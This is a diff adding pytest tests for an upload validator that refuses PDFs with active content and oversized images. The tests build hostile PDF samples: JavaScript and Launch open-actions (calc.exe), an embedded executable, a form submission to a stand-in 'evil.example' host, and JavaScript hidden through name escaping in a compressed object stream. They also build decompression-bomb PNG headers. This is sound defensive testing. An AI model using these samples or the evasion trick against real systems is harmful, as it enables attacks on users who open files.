@@ -285,3 +285,129 @@ def test_a_plain_file_name_is_accepted(name):
     from capital.uploads import check_file_name
 
     check_file_name(name)
+
+
+# --- active content in PDFs ----------------------------------------------------------------
+
+def _pdf_with(change) -> bytes:
+    """A one-page PDF after ``change(writer, page)`` adds something to it."""
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject  # noqa: F401  (for the lambdas)
+
+    writer = PdfWriter()
+    page = writer.add_blank_page(width=595, height=842)
+    change(writer, page)
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def _action(kind: str, **entries):
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for key, value in entries.items():
+        action[NameObject(f"/{key}")] = TextStringObject(value)
+    return action
+
+
+def _set(target, key, value):
+    from pypdf.generic import NameObject
+
+    target[NameObject(key)] = value
+
+
+ACTIVE_PDFS = {
+    "JavaScript": lambda w, p: _set(w._root_object, "/OpenAction", _action("/JavaScript", JS="app.alert(1)")),
+    "Launch": lambda w, p: _set(w._root_object, "/OpenAction", _action("/Launch", F="calc.exe")),
+    "EmbeddedFiles": lambda w, p: w.add_attachment("invoice.exe", b"MZ..."),
+    "AA": lambda w, p: _set(p, "/AA", _action("/JavaScript", JS="app.alert(2)")),
+    "SubmitForm": lambda w, p: _set(w._root_object, "/OpenAction", _action("/SubmitForm", F="https://evil.example/")),
+}
+
+
+@pytest.mark.parametrize("name", ACTIVE_PDFS)
+def test_a_pdf_with_active_content_is_refused_and_says_what(name):
+    with pytest.raises(UploadError) as error:
+        check_pdf(_pdf_with(ACTIVE_PDFS[name]), max_bytes=LIMIT)
+    assert code_of(error) == "upload.pdf_active"
+    assert error.value.reason.params["what"] in {name, "JavaScript", "Launch", "EmbeddedFiles", "EmbeddedFile",
+                                                 "SubmitForm", "JS", "AA", "OpenAction"}
+
+
+def test_an_open_action_that_only_shows_a_page_is_accepted():
+    from pypdf.generic import ArrayObject, NameObject
+
+    def fit_first_page(writer, page):
+        _set(writer._root_object, "/OpenAction", ArrayObject([page.indirect_reference, NameObject("/Fit")]))
+
+    assert check_pdf(_pdf_with(fit_first_page), max_bytes=LIMIT).pages == 1
+
+
+def test_active_content_hidden_in_a_compressed_object_stream_is_found():
+    """The catalog and its JavaScript packed in a deflated object stream: no '/JavaScript' in the bytes."""
+    objects = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> >>",
+               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]
+    body, offsets = b"", []
+    for obj in objects:
+        offsets.append(len(body))
+        body += obj + b"\n"
+    header = b" ".join(b"%d %d" % (number, offset) for number, offset in zip((1, 2, 3), offsets)) + b"\n"
+    packed = zlib.compress(header + body)
+    pdf = b"%PDF-1.5\n"
+    stream_at = len(pdf)
+    pdf += (b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
+            % (len(header), len(packed)) + packed + b"\nendstream\nendobj\n")
+    xref_at = len(pdf)
+    rows = [struct.pack(">BIH", 0, 0, 65535)] + [struct.pack(">BIH", 2, 4, index) for index in range(3)]
+    rows += [struct.pack(">BIH", 1, stream_at, 0), struct.pack(">BIH", 1, xref_at, 0)]
+    table = zlib.compress(b"".join(rows))
+    pdf += (b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
+            % len(table) + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at)
+    assert b"JavaScript" not in pdf and b"J#61va" not in pdf
+    with pytest.raises(UploadError) as error:
+        check_pdf(pdf, max_bytes=LIMIT)
+    assert code_of(error) == "upload.pdf_active"
+
+
+def test_image_checks_in_parallel_threads_stay_correct_and_leave_the_warning_filters_alone():
+    """No warnings.catch_warnings() per call: that swaps the process-wide filter list under other threads."""
+    import threading
+    import warnings
+    from concurrent.futures import ThreadPoolExecutor
+
+    bomb = png_header_only(20_000, 20_000)  # 400 megapixels, refused from the header
+    photo = make_image("JPEG", size=(64, 48))
+    filters, changed, stop = warnings.filters, [], threading.Event()
+
+    def watch():
+        while not stop.is_set():
+            if warnings.filters is not filters:
+                changed.append(True)
+
+    watcher = threading.Thread(target=watch)
+    watcher.start()
+
+    def check(n):
+        if n % 2:
+            return check_image(photo, max_bytes=LIMIT, max_pixels=PIXELS).ext
+        try:
+            check_image(bomb, max_bytes=LIMIT, max_pixels=PIXELS)
+        except UploadError as error:
+            return error.reason.code
+
+    try:
+        with ThreadPoolExecutor(max_workers=8) as pool:
+            results = list(pool.map(check, range(200)))
+    finally:
+        stop.set()
+        watcher.join()
+    assert results == ["upload.image_too_large", "jpg"] * 100
+    assert not changed
+
+
+def test_an_image_past_pillow_s_own_limit_is_refused_as_too_large():
+    bomb = png_header_only(12_000, 12_000)  # 144 megapixels: between Pillow's warning and error thresholds
+    with pytest.raises(UploadError) as error:
+        check_image(bomb, max_bytes=LIMIT, max_pixels=10**9)
+    assert code_of(error) == "upload.image_too_large"
